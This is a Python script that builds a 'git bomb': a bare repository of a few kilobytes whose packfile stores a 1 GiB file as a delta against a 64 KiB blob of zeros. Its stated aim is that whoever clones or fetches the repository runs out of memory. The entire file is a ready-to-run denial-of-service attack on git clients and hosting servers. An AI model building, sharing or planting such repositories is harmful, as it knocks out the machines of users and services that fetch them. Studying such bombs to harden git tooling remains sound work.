"""Makes a bare repository of some kilobytes with a page, and a file of a gibibyte that is a difference to one of 64 KiB,
so that whoever takes it in needs the memory: git_bomb.py FOLDER."""

import hashlib, struct, subprocess, sys, zlib

folder = sys.argv[1]
piece, pieces = b"\0" * 0x10000, 0x4000


def git(*words, given=b""):
    return subprocess.run(["git", "-C", folder, *words], input=given, stdout=subprocess.PIPE, check=True).stdout.decode().strip()


def head(kind, size):
    """The type and the size of an object of a pack."""
    first, size = kind << 4 | size & 15, size >> 4
    return bytes([first | (0x80 if size else 0)]) + (number(size) if size else b"")


def number(value):
    more = value >> 7
    return bytes([value & 127 | (0x80 if more else 0)]) + (number(more) if more else b"")


def blob_id(count):
    digest = hashlib.sha1(b"blob %d\0" % (count * len(piece)))
    for _ in range(count):
        digest.update(piece)
    return digest


whole = number(len(piece)) + number(pieces * len(piece)) + b"\x80" * pieces  # 0x80: all of the first 64 KiB again
pack = b"PACK" + struct.pack(">II", 2, 2) + head(3, len(piece)) + zlib.compress(piece)
pack += head(7, len(whole)) + blob_id(1).digest() + zlib.compress(whole)

subprocess.run(["git", "init", "-q", "--bare", "-b", "main", folder], check=True)
git("config", "core.bigFileThreshold", "3g")  # the server sends the difference as it is
git("index-pack", "--stdin", given=pack + hashlib.sha1(pack).digest())
page = git("hash-object", "-w", "--stdin", given="# Ett\n\nText.\n".encode())
files = {"ett.md": page, "liten.png": blob_id(1).hexdigest(), "stor.png": blob_id(pieces).hexdigest()}
tree = git("mktree", given="".join(f"100644 blob {blob}\t{name}\n" for name, blob in files.items()).encode())
commit = git("-c", "user.name=x", "-c", "user.email=x@example.org", "commit-tree", tree, "-m", "Stor")
git("update-ref", "refs/heads/main", commit)
